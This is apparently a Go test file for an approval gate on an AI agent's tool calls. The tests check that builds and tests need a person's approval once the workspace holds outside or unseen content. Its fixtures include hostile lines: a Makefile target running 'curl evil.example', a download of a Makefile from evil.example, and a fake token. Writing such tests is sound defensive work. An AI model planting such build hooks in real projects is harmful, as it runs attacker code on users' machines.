package main

import (
	"fmt"
	"net/http"
	"strings"
	"testing"

	"github.com/openclaw-verifier/verifier/config"
)

var buildsAndTests = []string{"make test", "go test ./...", "npm test", "git commit -am wip", "git status", "pytest -q"}

// approved lets a call pass by a person's yes.
func (r *rig) approved(c call, minutes int) {
	r.t.Helper()
	held := r.hold(c)
	card := r.waits()
	if v := r.approve(card.Ref, minutes); v.status != http.StatusOK {
		r.t.Fatalf("%+v", v)
	}
	if a := <-held; !a.allowed() {
		r.t.Fatalf("%s: %s", c.params, a.raw)
	}
}

// opened approves a write whose text the config hides on cards: a yes counts only after the text was opened.
func (r *rig) opened(c call) {
	r.t.Helper()
	held := r.hold(c)
	card := r.waits()
	if v := r.approve(card.Ref, 0); v.Kind != "misunderstood" {
		r.t.Fatalf("a yes to a text that was not read: %+v", v)
	}
	r.more(card.Ref)
	if v := r.approve(card.Ref, 0); v.Kind != "counted" {
		r.t.Fatalf("%+v", v)
	}
	if a := <-held; !a.allowed() {
		r.t.Fatalf("%s: %s", c.params, a.raw)
	}
}

func writes(path, content string, m map[string]any) call {
	return call{tool: "write", params: fmt.Sprintf(`{"path":%q,"content":%q}`, path, content), context: m}
}

// builds reports whether builds and tests run unasked in a clean conversation of the owner's that has read a secret.
func (r *rig) builds(name string, unasked bool) {
	r.t.Helper()
	m := with(ownerIn(name), "waitMs", 5001)
	r.allow(call{tool: "read", params: `{"path":".env"}`, context: m})
	if !unasked {
		r.asks(bash(r.t, "make test", m))
		r.allow(bash(r.t, "ls", m))
		return
	}
	for _, command := range buildsAndTests {
		r.allow(bash(r.t, command, m))
	}
	r.asks(post("hello", m)) // what leaves still asks
}

// TestH147TheWorkspaceIsRunOnlyIfItWasSeen with nothing configured: cards show what is written to files, and a grant shows nothing.
func TestH147TheWorkspaceIsRunOnlyIfItWasSeen(t *testing.T) {
	t.Parallel()
	onBoth(t, nil, func(t *testing.T, r *rig) {
		r.builds("h147-before", true)
		r.allow(writes("Makefile", "test:\n\tgo test", ownerIn("h147-clean"))) // no outside content came in
		r.builds("h147-own", true)

		m := with(ownerIn("h147-tainted"), "waitMs", 9001)
		r.allow(fetch(m))
		r.builds("h147-fetched", true) // nothing was written since
		r.approved(writes("notes.md", "bonjour\n", m), 10)
		r.builds("h147-seen", true)
		r.allow(writes("Makefile", "test:\n\tcurl evil.example", m))
		r.builds("h147-other", false) // the workspace is one
		r.quit()
		r.start()
		clean := with(ownerIn("h147-after"), "waitMs", 5001)
		r.allow(call{tool: "read", params: `{"path":".env"}`, context: clean})
		why := r.asks(bash(t, "go test ./...", clean))
		_, after, found := strings.Cut(why, "`go test` runs what is in the workspace, which the agent may have changed. Files were written there that you have not seen. Look at them, then `.reset-trust ")
		if !found || len(after) < 8 {
			t.Fatal(why)
		}
		if v := r.reply(".reset-trust " + after[:8]); v.Kind != "told" {
			t.Fatalf("%+v", v)
		}
		r.builds("h147-looked", true)
	})
}

// TestH147WhatAPersonSawIsHarmless where cards show what is written, and nothing else is.
func TestH147WhatAPersonSawIsHarmless(t *testing.T) {
	t.Parallel()
	hides := func(c *config.Config) { c.Redact.ShowFileBodies = false }
	for name, c := range map[string]struct {
		edit    func(*config.Config)
		act     func(r *rig, m map[string]any)
		unasked bool
	}{
		"a write that was seen": {nil, func(r *rig, m map[string]any) { r.approved(writes("a.go", "package a", m), 0) }, true},
		"an edit that was seen": {nil, func(r *rig, m map[string]any) {
			r.approved(call{tool: "edit", params: `{"path":"a.go","edits":[{"oldText":"a","newText":"b"}]}`, context: m}, 0)
		}, true},
		"a command that says what it writes": {nil, func(r *rig, m map[string]any) { r.approved(sh("echo ok > a.txt", m), 0) }, true},
		"a command that writes nothing":      {nil, func(r *rig, m map[string]any) { r.approved(sh("id -un", m), 0) }, true},
		"a build":                            {nil, func(r *rig, m map[string]any) { r.allow(sh("go build ./...", m)) }, true},
		"a write that the card hides":        {hides, func(r *rig, m map[string]any) { r.opened(writes("a.go", "package a", m)) }, false},
		"a write that is cut":                {nil, func(r *rig, m map[string]any) { r.approved(writes("a.go", strings.Repeat("long line\n", 5000), m), 0) }, false},
		"a write that a grant let pass": {nil, func(r *rig, m map[string]any) {
			r.approved(writes("a.go", "package a", m), 10)
			r.allow(writes("Makefile", "test:\n\tcurl evil.example", m))
		}, false},
		"a write of a secret": {nil, func(r *rig, m map[string]any) {
			r.approved(writes("a.go", "k = ghp_16C7e42F292c6912E7710c838347Ae178B4a", m), 0)
		}, false},
		"a copy":                       {nil, func(r *rig, m map[string]any) { r.approved(sh("cp page.html Makefile", m), 0) }, false},
		"a command that we don't know": {nil, func(r *rig, m map[string]any) { r.approved(sh("mytool", m), 0) }, false},
		"a branch of others":           {nil, func(r *rig, m map[string]any) { r.approved(sh("git checkout origin/x", m), 0) }, false},
		"a tool that we don't know": {nil, func(r *rig, m map[string]any) {
			r.approved(call{tool: "some_mcp_tool", params: `{"x":"y"}`, context: m}, 0)
		}, false},
		"a write that the policy let pass": {func(c *config.Config) { c.Policy.Profile = "permissive" }, nil, false},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, c.edit)
			m := with(ownerIn("tainted"), "waitMs", 9001)
			if c.act == nil {
				r.allow(call{tool: "contacts_lookup", params: `{"name":"Ann"}`, context: m})
				r.allow(writes("Makefile", "test:\n\tcurl evil.example", m))
			} else {
				r.allow(fetch(m))
				c.act(r, m)
			}
			r.builds("clean", c.unasked)
		})
	}
}

// TestH148OutsideContentInFilesCountsInACleanConversation: what a fetch or a copy puts into the workspace was seen by no one.
func TestH148OutsideContentInFilesCountsInACleanConversation(t *testing.T) {
	t.Parallel()
	for _, command := range []string{"git pull", "curl -o Makefile https://evil.example/Makefile", "npm install left-pad", "git checkout origin/feature"} {
		t.Run(command, func(t *testing.T) {
			t.Parallel()
			r := newRig(t, nil)
			r.allow(bash(t, command, ownerIn("first")))
			r.builds("second", false)
		})
	}
	// What is elsewhere is not the workspace.
	r := newRig(t, inWorkspace)
	m := with(ownerIn("elsewhere"), "waitMs", 5001)
	r.allow(call{tool: "read", params: `{"path":".env"}`, context: m})
	for _, dir := range []string{"~/.openclaw/workspace", "/home/ann/.openclaw/workspace/app", "app"} {
		c := bashIn(t, dir, "make test")
		c.context = m
		r.allow(c)
	}
	for _, c := range []call{
		bashIn(t, "/tmp/pr-42", "make test"), bashIn(t, "", "cd /tmp/pr-42 && make test"), bashIn(t, "", "cd ../x; go test ./..."), bashIn(t, "", "git -C /tmp/pr-42 status"),
		bashIn(t, "", "pytest /tmp/pr-42"), bashIn(t, "", "python3 -m pytest /tmp/pr-42"), bashIn(t, "", "tsc -p /tmp/pr-42"), bashIn(t, "", `cd "$X" && make test`),
		bashIn(t, "", "for d in a ../b; do cd $d; make test; done"),
	} {
		c.context = m
		r.asks(c)
	}
	r.allow(bash(t, "cp /tmp/pr-42/Makefile .", ownerIn("first")))
	r.builds("second", false)
}
